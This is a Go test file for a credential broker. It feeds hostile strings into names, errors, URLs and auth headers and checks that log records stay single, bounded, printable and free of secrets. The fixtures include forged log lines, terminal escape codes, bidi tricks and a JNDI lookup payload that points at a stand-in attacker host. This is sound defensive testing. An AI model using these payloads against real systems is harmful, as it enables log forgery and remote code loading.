package credential_test

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"log/slog"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"sync"
	"testing"
	"testing/synctest"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/taskcred/taskcred/credential"
	"github.com/taskcred/taskcred/credential/credentialtest"
	"github.com/taskcred/taskcred/identity"
	"github.com/taskcred/taskcred/identity/secret"
	"github.com/taskcred/taskcred/scope"
	"github.com/taskcred/taskcred/scope/policy"
)

// Hostile text in any name, address or answer yields one bounded record for
// each event, which reads as the text that was written. Neither the record nor
// the error controls a terminal or shows a secret.
func TestEvent_HostileTextIsOneBoundedRecord(t *testing.T) {
	places := map[string]func(s string, w *hostileCall){
		"id":      func(s string, w *hostileCall) { w.task.ID = s },
		"tenant":  func(s string, w *hostileCall) { w.task.Tenant = s },
		"purpose": func(s string, w *hostileCall) { w.task.Purpose = s },
		"subject": func(s string, w *hostileCall) { w.task.Subject.ID = s },
		"reason":  func(s string, w *hostileCall) { w.decision = policy.Decision{Reasons: []string{"no", s}} },
		"code":    func(s string, w *hostileCall) { w.fail = &credential.Error{Reason: credential.ErrIssuer, Code: s} },
		"host":    func(s string, w *hostileCall) { w.fail = &credential.Error{Reason: credential.ErrIssuer, Host: s} },
		"detail":  func(s string, w *hostileCall) { w.fail = &credential.Error{Reason: credential.ErrIssuer, Detail: s} },
		"kind":    func(s string, w *hostileCall) { w.fail = &credential.Error{Reason: credential.Reason(s)} },
		"claim":   func(s string, w *hostileCall) { w.aud = s },
		"method":  func(s string, w *hostileCall) { w.change = func(r *http.Request) { r.Method = s } },
		"address": func(s string, w *hostileCall) { w.change = func(r *http.Request) { r.URL.Host, r.Host = s, s } },
		"scheme":  func(s string, w *hostileCall) { w.change = func(r *http.Request) { r.URL.Scheme = s } },
		"path": func(s string, w *hostileCall) {
			w.change = func(r *http.Request) { r.URL = &url.URL{Scheme: "https", Host: "pay.test", Path: s} }
		},
		"header": func(s string, w *hostileCall) { w.header = `Bearer error="insufficient_scope", scope="` + s + `"` },
	}
	for what, hostile := range map[string]string{
		"line break":       "a\nlevel=INFO msg=\"credential issued\" tenant=admin",
		"carriage return":  "a\r\ncredential issued",
		"escape":           "\x1b[2J\x1b]0;owned\x07",
		"NUL":              "a\x00b",
		"JSON":             `","level":"INFO","msg":"credential issued","tenant":"admin`,
		"text":             `x" tenant=admin y="`,
		"line separator":   "a\u2028level=INFO\u2029b",
		"next line":        "a\u0085level=INFO",
		"one-byte escape":  "\u009b2J",
		"right to left":    "\u202enimda\u202c",
		"zero width":       "ad\u200bmin\ufeff",
		"not UTF-8":        "a\xff\xfe\xc0\xae",
		"template":         "${jndi:ldap://evil.test/a} {{.}} %s%n%!d(string=x)",
		"a megabyte":       strings.Repeat("long ", 200_000),
		"a kilobyte of it": strings.Repeat("\u2028", 300),
	} {
		for place, put := range places {
			t.Run(what+" in "+place, func(t *testing.T) {
				if place == "reason" && len(hostile) > 1024 {
					t.Skip("what a policy says is the operator's own")
				}
				synctest.Test(t, func(t *testing.T) {
					w := newHostileCall()
					put(hostile, w)
					w.run(t)
					w.check(t)
				})
			})
		}
	}
}

// hostileCall is one call of a tool in which each text can be hostile, and what
// is logged about it.
type hostileCall struct {
	task     credential.TaskOptions
	decision policy.Decision
	fail     error
	aud      string
	change   func(*http.Request)
	header   string

	secrets []string
	errs    []error
	mu      sync.Mutex // guards the fields below
	json    bytes.Buffer
	text    bytes.Buffer
	events  []credential.Event
}

func (w *hostileCall) run(t *testing.T) {
	ctx, task, err := credential.StartTask(t.Context(), w.task)
	if err != nil {
		w.errs = append(w.errs, err)
		return
	}
	all := &slog.HandlerOptions{Level: slog.LevelDebug}
	handlers := slog.NewMultiHandler(slog.NewJSONHandler(lockedWriter{&w.mu, &w.json}, all), slog.NewTextHandler(lockedWriter{&w.mu, &w.text}, all))
	b := newBroker(t, &mint{ttl: time.Hour, answer: func(_ credential.TokenRequest[scope.Tool], r *credential.TokenResponse) error {
		if w.aud != "" {
			r.AccessToken = secret.New(sign(t, claims{"aud": w.aud}))
		}
		w.secrets = append(w.secrets, secret.Reveal(r.AccessToken))
		return w.fail
	}}, func(o *credential.BrokerOptions) {
		o.Logger = slog.New(handlers)
		o.Events = func(e credential.Event) {
			w.mu.Lock()
			defer w.mu.Unlock()
			w.events = append(w.events, e)
		}
		o.Policy = policy.DeciderFunc(func(context.Context, policy.Request) (policy.Decision, error) { return w.decision, nil })
		o.Base = &wire{answer: func(*http.Request) *http.Response { return respond(403, "", "WWW-Authenticate", w.header) }}
	})
	r := request(t, ctx, "GET", "https://pay.test/v1")
	if w.change != nil {
		w.change(r)
	}
	tr := b.Transport(tool(t, "pay"), nil)
	resp, err := tr.RoundTrip(r)
	if err == nil {
		resp.Body.Close()
	}
	for _, err := range []error{err, errOf(tr.GetRequestMetadata(ctx, r.URL.String())), task.End(ctx)} {
		if err != nil {
			w.errs = append(w.errs, err)
		}
	}
	synctest.Wait()
}

func (w *hostileCall) check(t *testing.T) {
	t.Helper()
	noSecret := func(s string) {
		for _, x := range w.secrets {
			if strings.Contains(s, x) {
				t.Errorf("a secret in %.100q", s)
			}
		}
	}
	unprintable := func(r rune) bool { return !unicode.IsPrint(r) }
	for _, err := range w.errs {
		if s := err.Error(); len(s) > 1024 || !utf8.ValidString(s) || strings.ContainsFunc(s, unprintable) {
			t.Errorf("an error of %d bytes: %.300q", len(s), s)
		}
		noSecret(err.Error())
	}
	var got, want []string
	for line := range strings.Lines(w.json.String()) {
		var r struct{ Msg, Task, Tenant, Subject, Purpose, Reason, Code, Detail string }
		if err := json.Unmarshal([]byte(line), &r); err != nil || len(line) > 8<<10 {
			t.Errorf("a record of %d bytes: %v in %.300q", len(line), err, line)
		}
		got = append(got, fmt.Sprintf("%q", r))
	}
	for _, e := range w.events {
		l := e.Lease
		fields := []string{"credential " + string(e.Kind), l.Task, l.Tenant, l.Subject, l.Purpose, string(e.Reason), e.Code, e.Detail}
		for i, f := range fields {
			fields[i] = strings.Map(func(r rune) rune { return r }, f) // as encoding/json does where it is not UTF-8
		}
		want = append(want, strings.NewReplacer("[", "{", "]", "}").Replace(fmt.Sprintf("%q", fields)))
	}
	slices.Sort(got)
	slices.Sort(want)
	for i := range got {
		got[i] = strings.NewReplacer("[", "{", "]", "}").Replace(got[i])
	}
	if !slices.Equal(got, want) || len(w.events) == 0 && len(w.errs) == 0 {
		t.Errorf("the records are\n%.600q\nwant\n%.600q", got, want)
	}
	if n := strings.Count(w.text.String(), "\n"); n != len(w.events) {
		t.Errorf("%d events, %d records in text", len(w.events), n)
	}
	for line := range strings.Lines(w.text.String()) {
		if line = strings.TrimSuffix(line, "\n"); !utf8.ValidString(line) || strings.ContainsFunc(line, unprintable) {
			t.Errorf("in text: %.300q", line)
		}
	}
	noSecret(w.json.String() + w.text.String())
}

func newHostileCall() *hostileCall {
	w := &hostileCall{decision: policy.Decision{Allow: true}, secrets: []string{credentialtest.Canary()}}
	w.task = credential.TaskOptions{ID: "id", Tenant: "acme", Subject: identity.Subject{ID: "alice", Token: secret.New(w.secrets[0])}}
	return w
}

// lockedWriter makes a buffer of a hostileCall safe for concurrent use.
type lockedWriter struct {
	mu *sync.Mutex
	b  *bytes.Buffer
}

func (l lockedWriter) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.Write(p)
}
